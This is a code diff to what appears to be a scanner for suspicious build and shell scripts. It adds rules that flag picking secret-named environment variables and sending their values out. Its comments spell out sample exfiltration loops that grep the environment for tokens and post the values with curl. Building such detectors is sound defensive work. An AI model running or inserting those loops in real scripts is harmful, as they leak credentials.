@@ -3,6 +3,8 @@ import { codeText } from '../code/code-text.js';
 import { isSuspiciousEndpoint } from '../code/network-endpoints.js';
 import { LOADED_PROCESS_CALL, SINKS, WHOLE_ENVIRONMENT, jsSinkUnderAnotherName, readsSecretFromEnvironment, secretsGoToTheirOwnHosts } from '../code/sink-rules.js';
 import { findPipeToShell } from '../shell/pipe-to-shell.js';
+import { secretNamedVariablesSent } from '../shell/secret-named-pick.js';
+import { pushAll } from '../../push-all.js';
 import { secretNamedForOtherPlace } from '../github-actions/secret-rules.js';
 import { escapeRegExp } from '../util.js';
 
@@ -31,7 +33,7 @@ export type BehaviorKind =
   | 'credential-file-write'
   /** Reads a credential from the environment (`*_TOKEN`, `*_SECRET`, `*_PASSWORD`). */
   | 'credential-env'
-  /** Takes the whole environment (`os.environ` as a whole, `env::vars()`, `printenv`). */
+  /** Takes the whole environment (`os.environ` as a whole, `env::vars()`, `printenv`), or the values of the variables named like secrets (`compgen -e | grep -i token` and `${!v}`). */
   | 'environment'
   /** Sends data to a host: a POST or upload, a raw socket, a DNS lookup of a built name. */
   | 'send'
@@ -507,7 +509,10 @@ export function readBehaviors(lines: readonly SourceLine[], language: BuildLangu
     // A token sent only to the service its name names (a release upload with GITHUB_TOKEN) is that service's credential in use, not a theft.
     if (readsSecretFromEnvironment(code) && !secretsGoToTheirOwnHosts(code) && !(options.dockerfile === true && DOCKERFILE_DECLARATION.test(code))) kinds.add('credential-env');
     if (matches(WHOLE_ENVIRONMENT, language, code, runs) || (language === 'csharp' && CSHARP_WHOLE_ENVIRONMENT.test(code))) kinds.add('environment');
-    if (matches(SEND, language, code, runs)) {
+    // The variables named like secrets picked and their values sent on one line (`for v in $$(compgen -e | grep -i token); do curl -d "$${!v}" https://…; done`).
+    const picked = language === 'shell' && secretNamedVariablesSent([code]) !== null;
+    if (picked) kinds.add('environment');
+    if (picked || matches(SEND, language, code, runs)) {
       kinds.add('send');
       if (options.credentialNames !== undefined && sendsSecretElsewhere(code, options.credentialNames)) kinds.add('secret-elsewhere');
     }
@@ -526,5 +531,23 @@ export function readBehaviors(lines: readonly SourceLine[], language: BuildLangu
     const shown = evidence(read);
     for (const kind of kinds) found.push(kind === 'download' ? { kind, line, text: shown, source: downloadSource(code) } : { kind, line, text: shown });
   }
+  if (language === 'shell') pushAll(found, secretsPickedAcrossLines(lines, found));
   return found;
+}
+
+/**
+ * The variables named like secrets picked on one line and their values sent from another
+ * (a recipe's loop continued with `\`: `for v in $$(compgen -e | grep -i token); do \`, then
+ * `echo "$$v=$${!v}" >> /tmp/o; done`, then `curl -d @/tmp/o https://…`): the environment taken at
+ * the pick, a send at the line that sends, where the lines alone did not say so.
+ */
+function secretsPickedAcrossLines(lines: readonly SourceLine[], found: readonly Behavior[]): Behavior[] {
+  const texts = lines.map(({ text }) => codeText(text, 'shell'));
+  const pick = secretNamedVariablesSent(texts.map((t) => (t.isComment ? '' : t.code)));
+  if (pick === null) return [];
+  const at = (i: number): number => lines[i]?.line ?? 0;
+  const out: Behavior[] = [];
+  if (!found.some((b) => b.kind === 'environment' && b.line === at(pick.picked))) out.push({ kind: 'environment', line: at(pick.picked), text: evidence(texts[pick.picked]?.code ?? '') });
+  if (!found.some((b) => b.kind === 'send' && b.line === at(pick.sent))) out.push({ kind: 'send', line: at(pick.sent), text: evidence(texts[pick.sent]?.code ?? '') });
+  return out;
 }
